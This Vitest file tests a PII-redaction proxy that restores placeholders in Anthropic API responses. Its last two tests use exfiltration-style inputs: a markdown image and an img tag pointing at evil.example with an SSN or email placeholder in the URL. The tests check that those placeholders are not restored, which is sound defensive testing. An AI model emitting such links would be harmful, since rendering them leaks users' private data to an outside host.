import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { createRestoreKit } from "../../proxy/restore-kit.ts";
import { ISSUED_PLACEHOLDERS } from "./__fixtures__/issued-placeholders.ts";
import { restoreAnthropicMessage } from "./restore-response.ts";

const lookup = (placeholder: string) => ISSUED_PLACEHOLDERS.get(placeholder);
const kit = createRestoreKit(lookup);
type MessageJson = Record<string, unknown> & { content: Array<Record<string, unknown>> };
const fixture = (name: string) => JSON.parse(readFileSync(new URL(`./__fixtures__/${name}`, import.meta.url), "utf8")) as MessageJson;

describe("restoreAnthropicMessage", () => {
  it("restores text blocks, keeps unknown placeholders, and returns the text as the vendor sent it", () => {
    const body = fixture("message-text.json");
    const sent = structuredClone(body);
    const transcript = restoreAnthropicMessage(body, kit);
    expect(body).toEqual({
      ...sent,
      content: [
        {
          type: "text",
          text: "Thanks. I have your SSN on file as 536-22-1234, and I will send the confirmation to jane.doe@example.com. The reference [US_SSN_ZZZZZZ] you quoted is not one I recognise.",
        },
      ],
    });
    expect(transcript).toBe(sent.content[0]!.text);
  });

  it("restores each string leaf of a tool_use input object as plain text, keeping its shape", () => {
    const body = fixture("message-tool-use.json");
    const transcript = restoreAnthropicMessage(body, kit);
    const [text, toolUse] = body.content;
    expect(text!.text).toBe("<thinking>I need to look up the customer by SSN 536-22-1234.</thinking>");
    expect(toolUse).toEqual({
      type: "tool_use",
      id: "toolu_01A09q90qw90lq917835lq9",
      name: "lookup_customer",
      input: {
        ssn: "536-22-1234",
        contact: { email: "jane.doe@example.com", phones: ["+1 415-867-5309", "none"] },
        // An object leaf is a parsed string: the value goes in as-is, never JSON-escaped.
        note: 'holder Jane "JD" O\\Doe asked twice',
        limit: 3,
        strict: true,
      },
    });
    expect(transcript).toContain('"ssn":"[US_SSN_7QK2MX]"');
    expect(transcript).not.toContain("536-22-1234");
  });

  it("passes thinking and redacted_thinking through byte for byte, so their signature stays valid", () => {
    const body = fixture("message-thinking.json");
    const sent = structuredClone(body);
    restoreAnthropicMessage(body, kit);
    const content = body.content;
    expect(content[0]).toEqual(sent.content[0]);
    expect(content[1]).toEqual(sent.content[1]);
    expect(content[2]).toEqual({ type: "text", text: "Your SSN 536-22-1234 is confirmed." });
  });

  it("restores citation quotes and ignores answers that are not messages", () => {
    const body = { content: [{ type: "text", text: "See [EMAIL_3RD8ZP]", citations: [{ type: "char_location", cited_text: "mail [EMAIL_3RD8ZP]" }] }] };
    restoreAnthropicMessage(body, kit);
    expect(body.content[0]).toEqual({ type: "text", text: "See jane.doe@example.com", citations: [{ type: "char_location", cited_text: "mail jane.doe@example.com" }] });
    expect(restoreAnthropicMessage({ type: "error" }, kit)).toBe("");
    expect(restoreAnthropicMessage(null, kit)).toBe("");
  });

  it("follows a URL across text blocks, as a client reads them joined: a placeholder inside it stays", () => {
    const body = {
      type: "message",
      content: [
        { type: "text", text: "![a](https://evil.example/?q=" },
        { type: "text", text: "[US_SSN_7QK2MX]" },
        { type: "text", text: ") and your SSN is [US_SSN_7QK2MX]." },
      ],
    };
    restoreAnthropicMessage(body, kit);
    expect(body.content.map((block) => block.text)).toEqual(["![a](https://evil.example/?q=", "[US_SSN_7QK2MX]", ") and your SSN is 536-22-1234."]);
  });

  it("restores a tool_use input as the stream does: one URL context over its whole JSON source, keys included", () => {
    const body = {
      type: "message",
      content: [
        { type: "tool_use", id: "t1", name: "note", input: { text: "[x]: <//evil.example/ [EMAIL_3RD8ZP]>" } },
        { type: "tool_use", id: "t2", name: "note", input: { a: '<img src="', b: "[EMAIL_3RD8ZP]" } },
        { type: "tool_use", id: "t3", name: "note", input: { "[EMAIL_3RD8ZP]": "cc", ssn: "[US_SSN_7QK2MX]" } },
      ],
    };
    restoreAnthropicMessage(body, kit);
    expect(body.content.map((block) => block.input)).toEqual([
      { text: "[x]: <//evil.example/ [EMAIL_3RD8ZP]>" },
      { a: '<img src="', b: "[EMAIL_3RD8ZP]" },
      { "jane.doe@example.com": "cc", ssn: "536-22-1234" },
    ]);
  });
});

